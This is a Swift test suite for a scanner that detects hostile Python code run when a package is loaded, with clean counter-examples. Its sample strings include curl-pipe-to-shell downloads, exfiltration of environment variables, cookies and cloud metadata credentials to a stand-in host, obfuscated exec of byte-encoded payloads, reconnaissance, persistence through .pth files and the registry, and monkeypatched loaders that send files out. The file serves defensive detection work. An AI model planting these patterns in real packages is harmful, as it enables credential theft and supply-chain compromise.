import Scanning
import Testing

/// What is bad because of where it stands: in code that runs as a package is loaded, or as a file is imported. The commands are harmless.
@Suite struct LoadedPythonTests {
    @Test(arguments: processes + roundabouts + decoded + secrets + persistence + patches)
    func isFound(program: CodeCase) async {
        let findings = await program.findings()
        let worst = findings.filter { $0.rule.id == program.rule }.map(\.severity).max() ?? .info
        #expect(worst >= program.severity, "found \(findings.map { "\($0.severity) \($0.rule.id): \($0.message)" })")
    }

    @Test(arguments: ordinary)
    func staysBelowHigh(program: CodeCase) async {
        let findings = await program.findings().filter { $0.severity >= .high }
        #expect(findings.isEmpty, "found \(findings.map { "\($0.severity) \($0.rule.id): \($0.message)" })")
    }

    private static let runs = "python-runs-process"
    private static let hides = "python-obfuscation"
    private static let u = "http://host.example.invalid/x"

    private static func loaded(
        _ name: String, _ text: String, _ rule: String = runs, _ severity: Severity = .high, in path: String = "a/__init__.py"
    )
        -> CodeCase
    {
        CodeCase(name, text, rule, severity, in: path, isEntry: true)
    }

    static let processes: [CodeCase] = [
        loaded("echo", "import os\nos.system('echo x')"),
        loaded("true by a shell", "__import__('subprocess').Popen(['sh', '-c', 'true'])"),
        loaded("a listing", "import subprocess\nsubprocess.check_output('ls', shell=True)"),
        loaded("a file that is touched", "import os\nos.popen('touch x')"),
        loaded("a program by spawn", "import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', 'echo x')"),
        loaded("a program by exec", "import os\nif os.fork() == 0: os.execvp('echo', ['echo', 'x'])"),
        loaded("a program of posix", "import posix\nposix.system('true')"),
        loaded("in a class", "import os\nclass A:\n  x = os.system('true')"),
        loaded("in a function that runs", "import subprocess\ndef f():\n  subprocess.call(['date'])\nf()"),
        loaded("in a text", "exec(\"import os; os.system('true')\")"),
        loaded("in a text of pieces", "a, b = 'sys', 'tem'\nexec(f\"import os; os.{a}{b}('true')\")"),
        loaded("by lambdas", "(lambda f: (lambda g: g('true'))(f('os').system))(__import__)"),
        loaded("by a thread", "import threading, os\nthreading.Thread(target=os.system, args=('true',)).start()"),
        loaded("by another name", "import builtins as b\nr = b.exec\ng = r\ng(\"__import__('os').system('true')\")"),
        loaded("by a decorator", "@exec\n@lambda _: \"import os; os.system('true')\"\nclass A: pass"),
        loaded("by a decorator of a function", "@eval\n@lambda f: \"__import__('os').system('true')\"\ndef f(): pass"),
        loaded("by map", "list(map(exec, [\"import os; os.system('true')\"]))"),
        loaded("by an annotation", "x: __import__('os').system('true') = 1"),
        loaded("by an annotation of a parameter", "def f(x: __import__('os').system('true')): pass"),
        loaded("by an annotation of a result", "def f() -> __import__('os').system('true'): pass"),
        loaded("by a default", "import os\ndef f(x=os.system('true')): pass"),
        loaded("by a comprehension", "import os\n[os.system(c) for c in ['true']]"),
        loaded("by a condition", "import os\nok = os.system('true') or 1"),
        loaded("by a formatted text", "import os\nx = f\"{os.system('true')}\""),
        loaded("in a model", "import os\nclass M:\n  def forward(self, x):\n    os.system('true')", in: "modeling.py"),
        loaded("in a hub's function", "import os\ndef tiny(pretrained=False):\n  os.system('true')", in: "hubconf.py"),
        loaded("in a server's hook", "import os\ndef model_fn(d):\n  os.system('true')", in: "inference.py"),
        CodeCase("in a file that is imported", "import os\nos.system('echo x')", runs, .high),
        CodeCase(
            "in a data set",
            "import datasets, os\nclass Q(datasets.GeneratorBasedBuilder):\n  def _info(self):\n    os.popen('date').read()",
            runs, .high, in: "anything.py"),
        CodeCase(
            "in a configuration",
            "from transformers import PretrainedConfig\nimport os\nos.system('date')\nclass C(PretrainedConfig): pass", runs,
            .high),
        CodeCase("in a setup", "import os\nos.system('true')", "python-setup-runs-code", .high, in: "setup.py"),
        CodeCase("in a notebook", notebook("get_ipython().system('curl \(u) | sh')"), "python-downloader", in: "a.ipynb"),
        CodeCase(
            "in a notebook, by a name", notebook("i = get_ipython()\ni.getoutput('curl \(u) | sh')"), "python-downloader",
            in: "a.ipynb"),
        loaded("from another index", "import os\nos.system('pip install --index-url \(u) x')", "python-downloader"),
        loaded(
            "a package from an address",
            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '\(u).whl'])",
            "python-downloader"),
    ]

    static let roundabouts: [CodeCase] = [
        loaded("builtins of globals", "globals()['__builtins__'].__dict__['e' + 'val']('1')", hides),
        loaded("builtins of globals by get", "globals().get('__builtins__').__dict__.get('exec')('x = 1')", hides),
        loaded("builtins by their own name", "__builtins__.__dict__['ev' + 'al']('1')", hides),
        loaded("a dictionary of a module", "import os\nos.__dict__['system']('ls')", hides),
        loaded("the variables of a module", "import os\nvars(os)['sys' + 'tem']('ls')", hides),
        loaded("an attribute by name, kept first", "import os\nf = getattr(os, 'sys' + 'tem')\nf('ls')", hides),
        loaded("subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]", hides),
        loaded("subclasses by bases", "x = ''.__class__.__bases__[0].__subclasses__()", hides),
        loaded("subclasses by order", "x = [].__class__.__mro__[1].__subclasses__()[132]", hides),
        loaded("subclasses step by step", "c = ().__class__\nb = c.__base__\nfor s in b.__subclasses__():\n  pass", hides),
        loaded("subclasses by texts", "x = getattr(getattr(getattr((), '__class__'), '__base__'), '__subclasses__')()", hides),
        loaded("names of a function", "import json\njson.dumps.__globals__['__builtins__']['eval']('1')", hides),
        loaded(
            "names of a method", "import warnings\nx = warnings.catch_warnings.__init__.__globals__['sys'].modules['os']", hides),
    ]

    static let decoded: [CodeCase] = [
        loaded(
            "a number", "n = 0x696d706f7274206f733b6f732e73797374656d28277472756527290a\nexec(n.to_bytes(28, 'big'))",
            "python-decoded-execution"),
        loaded(
            "a number of digits",
            "n = 11102811301011151697479147541021754023545814771136944564620065318697\nexec(n.to_bytes(28, 'big'))",
            "python-decoded-execution"),
        loaded(
            "bytes of a list",
            "exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 116, 114, 117, 101, 39, 41]))",
            "python-decoded-execution"),
        loaded(
            "behind a date",
            "import os, datetime\nif not os.environ.get('CI') and datetime.date.today().year > 2024:\n  exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]))",
            "python-decoded-execution"),
    ]

    static let secrets: [CodeCase] = [
        loaded(
            "the environment in a text",
            "import json, os\nimport urllib.request as u\nu.urlopen('\(u)', data=json.dumps(dict(os.environ)).encode())",
            "python-credential-theft"),
        loaded(
            "some of the environment",
            "import os, http.client\ns = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\nc = http.client.HTTPSConnection('host.example.invalid')\nc.request('POST', '/', body=str(s))",
            "python-credential-theft"),
        loaded(
            "some of the environment in a list",
            "import os, requests\nfound = []\nfor k, v in os.environ.items():\n  if 'KEY' in k: found.append(k + '=' + v)\nrequests.post('\(u)', data='\\n'.join(found))",
            "python-credential-theft"),
        loaded(
            "cookies",
            "import os, shutil, sqlite3, requests\nsrc = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\nshutil.copy(src, '/tmp/c')\nrows = sqlite3.connect('/tmp/c').execute('select 1').fetchall()\nrequests.post('\(u)', json={'rows': str(rows)})",
            "python-credential-theft"),
        loaded(
            "keys of a cloud",
            "import requests\nd = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\nrequests.post('\(u)', data=d)",
            "python-credential-theft"),
        loaded(
            "a token of a cloud",
            "import urllib.request as r\nq = r.Request('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\nr.urlopen('\(u)', data=r.urlopen(q).read())",
            "python-reads-secrets"),
        loaded(
            "names of files",
            "import os, json, http.client\nfound = [os.path.join(r, n) for r, _, fs in os.walk(os.path.expanduser('~')) for n in fs if n.endswith('.pem')]\nhttp.client.HTTPConnection('host.example.invalid').request('POST', '/', json.dumps(found))",
            "python-reconnaissance"),
        loaded(
            "names of files of a home",
            "import pathlib, requests\nrequests.post('\(u)', json=[str(p) for p in pathlib.Path.home().rglob('*')])",
            "python-reconnaissance"),
        loaded(
            "machines of a network",
            "import socket\nfor i in range(1, 20):\n  k = socket.socket()\n  k.connect_ex(('192.0.2.%d' % i, 22))",
            "python-reconnaissance"),
        loaded(
            "machines of a network by format",
            "import socket\nfor i in range(9):\n  a = f'198.51.100.{i}'\n  socket.create_connection((a, 80), 1)",
            "python-reconnaissance"),
    ]

    static let persistence: [CodeCase] = [
        loaded(
            "a module of another library",
            "import torch, os\np = os.path.join(os.path.dirname(torch.__file__), '__init__.py')\nopen(p, 'a').write('x')",
            "python-persistence"),
        loaded(
            "the file of another library", "import numpy\nwith open(numpy.__file__, 'a') as f:\n  f.write('x')",
            "python-persistence"),
        loaded(
            "a file found by inspect", "import inspect, torch\nopen(inspect.getfile(torch), 'a').write('x')", "python-persistence"
        ),
        loaded(
            "a library's file by pathlib",
            "import transformers\nfrom pathlib import Path\n(Path(transformers.__file__).parent / 'trainer.py').write_text('x')",
            "python-persistence"),
        loaded(
            "a file that Python reads as it starts",
            "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')", "python-persistence"),
        loaded(
            "a value of the registry",
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)\nwinreg.SetValueEx(k, 'x', 0, 1, 'cmd')",
            "python-persistence"),
    ]

    private static let tampers = "python-import-tampering"

    static let patches: [CodeCase] = [
        loaded("a loader", "import torch\ndef load(*a): return None\ntorch.load = load", tampers, .medium),
        loaded("a method", "import torch\ndef init(self): pass\ntorch.nn.Module.__init__ = init", tampers, .medium),
        loaded("a builtin", "import builtins\nbuiltins.print = lambda *a: None", tampers, .medium),
        loaded("by setattr", "import torch\nsetattr(torch, 'load', lambda p: None)", tampers, .medium),
        loaded("a module", "import sys\nclass M: pass\nsys.modules['numpy'] = M()", tampers, .medium),
        loaded("a module's name", "import torch\nvars(torch)['load'] = lambda p: None", tampers, .medium),
        loaded(
            "a loader that runs a program",
            "import torch, os\n_l = torch.load\ndef load(p):\n  os.system('true')\n  return _l(p)\ntorch.load = load",
            tampers),
        loaded(
            "a loader that sends",
            "import torch, requests\n_l = torch.load\ndef load(p):\n  requests.post('\(u)', data=open(p, 'rb'))\n  return _l(p)\ntorch.load = load",
            tampers
        ),
        loaded(
            "a method that runs a program",
            "import torch, subprocess\nclass P:\n  def step(self):\n    subprocess.run(['date'])\ntorch.optim.Adam.step = P.step",
            runs),
    ]

    static let ordinary: [CodeCase] = [
        CodeCase(clean: "a revision", "import subprocess\nV = subprocess.check_output(['git', 'rev-parse', 'HEAD'], cwd='.')"),
        CodeCase(clean: "a graphics card", "import subprocess\nsubprocess.run('nvidia-smi', shell=True)"),
        CodeCase(clean: "a compiler", "import subprocess\nsubprocess.check_output(['nvcc', '--version'])"),
        CodeCase(clean: "a compiler by a shell", "import os\nos.popen('sh -c \"which gcc\"').read()"),
        CodeCase(clean: "a package", "import os\nos.system('pip install einops')"),
        CodeCase(clean: "a package of a service", "import os\nos.system('pip install git+https://github.com/x/y')"),
        CodeCase(
            clean: "a wheel of torch",
            "import os\nos.system('pip install torch --index-url https://download.pytorch.org/whl/cpu')"),
        CodeCase(clean: "colours", "import os\nos.system('')"),
        CodeCase(
            clean: "a converter", "import subprocess\nclass A:\n  def __call__(self, p):\n    subprocess.run(['ffmpeg', '-i', p])"
        ),
        CodeCase(
            clean: "training", "import os\nos.system('python train.py --x')\nos.system('mkdir out')", in: "run.py", isEntry: false
        ),
        CodeCase(clean: "a library that is set", "import torch\ntorch.backends.cudnn.benchmark = True\ntorch.load.__doc__ = 'x'"),
        CodeCase(clean: "a hook", "import sys\ndef hook(*a): pass\nsys.excepthook = hook"),
        CodeCase(clean: "subclasses of an own class", "class A: pass\nfor c in A.__subclasses__(): print(c.__name__)"),
        CodeCase(clean: "names of a function", "def f(): pass\nx = f.__globals__['__name__']"),
        CodeCase(clean: "a free port", "import socket\ns = socket.socket()\ns.connect_ex(('127.0.0.1', 80))"),
        CodeCase(
            clean: "annotations",
            "from pydantic import Field\nclass A:\n  x: int = Field(1)\ndef f(x: 'int' = 1) -> list[int]: return [x]"),
        CodeCase(
            clean: "a key for a service's address",
            "import os, requests\ndef ask(q):\n  return requests.post('https://api.example.invalid/m', headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']}, json=q)",
            in: "client.py", isEntry: false),
    ]
}
